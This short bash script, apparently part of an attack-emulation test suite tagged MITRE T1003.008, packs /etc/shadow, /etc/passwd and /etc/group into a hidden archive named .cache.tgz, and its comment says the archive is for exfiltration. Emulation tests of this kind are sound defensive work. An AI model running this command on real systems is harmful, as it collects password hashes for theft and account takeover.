#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1003.008
# tactic: credential-access
# what: tar czf of /etc/shadow, /etc/passwd, /etc/group for exfiltration
. "$AT_LIB"
tar -czf "$AT_TMP/.cache.tgz" -C / etc/shadow etc/passwd etc/group
